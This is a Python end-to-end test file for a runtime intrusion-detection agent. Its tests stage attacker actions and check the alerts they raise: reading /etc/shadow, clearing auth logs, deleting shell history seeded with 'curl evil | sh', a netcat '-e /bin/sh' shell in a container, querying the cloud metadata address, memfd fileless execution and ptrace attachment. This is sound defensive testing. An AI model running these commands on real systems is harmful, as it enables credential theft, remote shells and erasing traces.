# SPDX-License-Identifier: Apache-2.0
"""`falcomod start` on a live kernel: what an intruder does, and the alerts that follow."""

from __future__ import annotations

import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

from tests.agent import Agent, event_time_ns
from tests.driver.child import in_child
from tests.driver.native import syscall
from tests.driver.programs import memory_program
from tests.end_to_end import facts
from tests.end_to_end.apart import apart
from tests.end_to_end.container import RUNTIME, SHORT_ID, run_in_container

TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{9}Z")
PTY_MAJOR = 136  # Linux Documentation/admin-guide/devices.txt


def expect(agent: Agent, rule: str, expected: dict[str, Any], **which: object) -> dict[str, Any]:
    """The alert of the rule with these fields (*which*), checked field by field."""
    alert = agent.expect_alert(rule, **which)
    assert facts.told(alert, expected) == expected
    return alert


def test_sensitive_file_is_read(agent: Agent) -> None:
    command = ["cat", "/etc/shadow"]
    began_ns = time.time_ns()
    subprocess.run(command, check=True, stdout=subprocess.DEVNULL)
    expected = {
        **facts.child_running(command),
        "fd.name": "/etc/shadow",
        "proc.aname[2]": facts.comm(os.getppid()),
        "proc.tty": facts.terminal(os.getpid()),
    }
    alert = expect(agent, "Read sensitive file untrusted", expected, proc_name="cat")
    of_containers = ("container.name", "container.image.repository", "k8s.pod.name", "k8s.ns.name")
    assert alert["output_fields"].keys() == {*expected, *of_containers, "evt.time"}
    assert [alert["output_fields"][name] for name in of_containers] == ["host", None, None, None]
    assert alert["priority"] == "Warning"
    assert alert["source"] == "syscall"
    assert alert["hostname"] == os.uname().nodename
    assert TIME.fullmatch(alert["time"])
    assert began_ns < event_time_ns(alert["time"]) < time.time_ns()
    assert alert["output_fields"]["evt.time"] == event_time_ns(alert["time"])
    assert "command=cat /etc/shadow" in alert["output"]
    assert "filesystem" in alert["tags"]


def test_file_below_etc_is_written(agent: Agent) -> None:
    path = "/etc/falcomod-was-here"
    command = ["touch", path]
    apart(lambda: subprocess.run(command, check=True))
    assert not Path(path).exists()
    expect(agent, "Write below etc", facts.child_running(command), fd_name=path)


def test_log_is_emptied(agent: Agent) -> None:
    log = "/var/log/auth.log"
    command = ["sh", "-c", f": > {log}"]
    apart(lambda: subprocess.run(command, check=True))
    expected = facts.child_running(command) | {"fd.name": log}
    expect(agent, "Clear Log Activities", expected, proc_name="sh")


def test_shell_history_is_deleted(agent: Agent, tmp_path: Path) -> None:
    history = tmp_path / ".bash_history"
    history.write_text("curl evil | sh\n")
    command = ["rm", str(history)]
    subprocess.run(command, check=True)
    expected = facts.child_running(command) | {"fs.path.name": str(history)}
    expect(agent, "Delete or rename shell history", expected, proc_name="rm")


def test_shell_history_is_moved_away(agent: Agent, tmp_path: Path) -> None:
    (tmp_path / ".zsh_history").write_text("curl evil | sh\n")
    subprocess.run(["mv", ".zsh_history", "nothing"], check=True, cwd=tmp_path)
    expected = facts.child_running(["mv", ".zsh_history", "nothing"]) | {
        "fs.path.source": str(tmp_path / ".zsh_history"),
        "fs.path.target": str(tmp_path / "nothing"),
    }
    expect(agent, "Delete or rename shell history", expected, proc_name="mv")


def test_program_gets_the_rights_of_its_owner(agent: Agent, tmp_path: Path) -> None:
    (tmp_path / "program").touch()
    subprocess.run(["chmod", "u+s", "program"], check=True, cwd=tmp_path)
    expected = facts.child_running(["chmod", "u+s", "program"]) | {
        "fs.path.name": str(tmp_path / "program")
    }
    alert = expect(agent, "Set Setuid or Setgid bit", expected, proc_name="chmod")
    assert "S_ISUID" in alert["output_fields"]["evt.arg.mode"]


def in_container(command: list[str]) -> dict[str, Any]:
    return facts.child_running(command) | {"container.id": SHORT_ID, "proc.pname": RUNTIME}


def test_shell_with_a_terminal_in_a_container(agent: Agent) -> None:
    command = ["bash", "-c", "exit 0"]
    assert run_in_container(command, terminal=True) == 0
    alert = expect(
        agent, "Terminal shell in container", in_container(command), container_id=SHORT_ID
    )
    assert alert["output_fields"]["proc.tty"] >> 8 & 0xFFF == PTY_MAJOR


def test_netcat_serves_a_shell_in_a_container(agent: Agent, tmp_path: Path) -> None:
    # Debian's openbsd netcat knows no -e: a program of that name is what the rule sees.
    program = tmp_path / "nc"
    program.symlink_to("/bin/busybox")
    command = [str(program), "-l", "-p", "0", "-w", "1", "-e", "/bin/sh"]
    run_in_container(command)
    expect(
        agent,
        "Netcat Remote Code Execution in Container",
        in_container(command),
        container_id=SHORT_ID,
    )


def test_netcat_listens_in_a_container(agent: Agent) -> None:
    command = ["nc", "-l", "127.0.0.1", "4444"]
    run_in_container(["timeout", "1", *command])
    expected = in_container(command) | {"proc.pname": "timeout"}
    expect(
        agent,
        "Launch Suspicious Network Tool in Container",
        expected,
        proc_cmdline=expected["proc.cmdline"],
    )


def test_server_starts_a_shell(agent: Agent, tmp_path: Path) -> None:
    server = tmp_path / "nginx"
    shutil.copy(os.path.realpath(sys.executable), server)
    script = "import subprocess; subprocess.run(['sh', '-c', 'true'], check=True)"
    subprocess.run([server, "-c", script], check=True)
    expected = facts.child_running(["sh", "-c", "true"]) | {
        "proc.pname": "nginx",
        "proc.pcmdline": f"nginx -c {script}",
        "proc.aname[2]": facts.comm(os.getpid()),
    }
    expect(agent, "Run shell untrusted", expected, proc_pname="nginx")


def test_credentials_of_the_machine_are_asked_for(agent: Agent) -> None:
    def ask() -> int:
        address = ["ip", "address", "add", "169.254.169.254/32", "dev", "lo"]
        subprocess.run(address, check=True)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.connect(("169.254.169.254", 80))
            return int(client.getsockname()[1])

    port = apart(ask).result
    name = f"169.254.169.254:{port}->169.254.169.254:80"
    own = facts.comm(os.getpid())
    expected = {"proc.name": own, "proc.pname": own, "container.id": "host", **facts.user()}
    expect(agent, "Contact cloud metadata service", expected, fd_name=name)


def test_program_runs_from_memory(agent: Agent) -> None:
    pid = os.fork()
    if pid == 0:
        os.execve(memory_program(), ["true"], {})
    os.waitpid(pid, 0)
    expected = {"proc.pname": facts.comm(os.getpid()), "container.id": "host", **facts.user()}
    alert = expect(agent, "Fileless execution via memfd_create", expected)
    assert alert["output_fields"]["proc.exepath"].startswith("/memfd:ghost")


def test_process_is_attached_to(agent: Agent) -> None:
    victim = subprocess.Popen(["sleep", "60"])
    seize = 0x4206
    assert in_child(lambda: syscall("ptrace", seize, victim.pid, 0, 0)).result == 0
    victim.kill()
    victim.wait()
    own = facts.comm(os.getpid())
    expected = {
        "evt.arg.request": "PTRACE_SEIZE",
        "evt.arg.pid": "sleep",
        "proc.name": own,
        "proc.pname": own,
        **facts.user(),
    }
    expect(agent, "PTRACE attached to process", expected)


def test_harmless_commands_raise_nothing(agent: Agent) -> None:
    before = len(agent.alerts())
    subprocess.run(["cat", "/etc/hostname"], check=False, stdout=subprocess.DEVNULL)
    subprocess.run(["ls", "/"], check=True, stdout=subprocess.DEVNULL)
    run_in_container(["true"])
    # An alert that comes after these says that their events have been seen.
    subprocess.run(["head", "-c1", "/etc/shadow"], check=True, stdout=subprocess.DEVNULL)
    agent.expect_alert("Read sensitive file untrusted", proc_name="head")
    fields = [alert["output_fields"] for alert in agent.alerts()[before:]]
    parents = (facts.comm(os.getpid()), RUNTIME)  # others on the host may be up to no good
    assert [each["proc.name"] for each in fields if each.get("proc.pname") in parents] == ["head"]


def test_stops_on_a_signal_with_a_summary(text_agent: Agent) -> None:
    subprocess.run(["cat", "/etc/shadow"], check=True, stdout=subprocess.DEVNULL)
    text_agent.wait_until(
        lambda: any("/etc/shadow" in line.text for line in text_agent.out), 30, "alert"
    )
    assert text_agent.stop(signal.SIGINT) == 0, text_agent.said()
    lines = [line.text for line in text_agent.out]
    alert = next(line for line in lines if "/etc/shadow" in line)
    assert re.match(r"\d\d:\d\d:\d\d\.\d{9}: Warning ", alert)
    assert "Triggered rules by rule name:" in lines
    assert "   Read sensitive file untrusted: 1" in lines
    assert "Events dropped: 0" in lines
    assert "Traceback" not in text_agent.said()
